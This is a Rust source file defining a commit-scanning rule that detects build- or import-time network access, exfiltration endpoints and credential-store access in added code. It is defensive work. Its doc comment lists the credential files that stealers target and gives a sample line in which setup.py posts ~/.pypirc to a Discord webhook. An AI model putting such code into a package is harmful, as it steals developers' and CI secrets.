use garrison_report::{RuleMeta, declare_rule};

use super::{CommitCx, Evidence, Signal, best_hit};
use crate::content::HitKind;

declare_rule! {
    /// ## What it checks
    /// Added code that reaches out or reaches for secrets: network access from build-time or
    /// import-time code (`setup.py`, build hooks, `conftest.py`, package `__init__.py`),
    /// exfiltration-style endpoints (chat webhooks, paste sites, tunnels, request catchers,
    /// `.onion` hosts, URLs with raw IP addresses), and references to credential stores (SSH
    /// keys, `~/.pypirc`, cloud credentials, browser profiles, wallets, `/etc/shadow`).
    ///
    /// ## Why it matters
    /// Credential stealers on PyPI run from `setup.py` or at import and post what they find to
    /// a webhook. Build and import time run with the developer's or the CI runner's secrets.
    ///
    /// ## Example
    /// `requests.post("https://discord.com/api/webhooks/…", data=open(os.path.expanduser(
    /// "~/.pypirc")).read())` in `setup.py`.
    ///
    /// ## Remediation
    /// Remove network access from build and import time; ask what the endpoint is and why the
    /// code needs the credential file; rotate credentials if such code ever ran.
    pub Exfiltration {
        id: "history/exfiltration",
        summary: "build/import-time network access, exfiltration endpoints or credential-store access added",
        severity: High,
        help: "remove network access from build/import time; ask what the endpoint and credential access are for",
        references: [
            "https://blog.phylum.io/tag/pypi/",
        ],
    }
}

/// See [`Exfiltration`].
pub struct Rule;

impl Signal for Rule {
    fn meta(&self) -> &'static RuleMeta {
        &Exfiltration::META
    }

    fn check(&self, cx: &CommitCx<'_>, out: &mut Vec<Evidence>) {
        let weigh = |f: &crate::FileChange, h: &crate::content::ContentHit| {
            if h.removed {
                return None;
            }
            let test = super::is_test_path(&f.path);
            match h.kind {
                HitKind::NETWORK_AT_BUILD_OR_IMPORT => {
                    Some((if test { 1.5 } else { 5.0 }, "network"))
                }
                HitKind::CREDENTIAL_ACCESS => Some((if test { 1.0 } else { 4.0 }, "credentials")),
                HitKind::SUSPICIOUS_ENDPOINT => Some((if test { 1.0 } else { 3.0 }, "endpoint")),
                _ => None,
            }
        };
        if let Some(e) = best_hit(cx, &Exfiltration::META, weigh) {
            out.push(e);
        }
    }
}
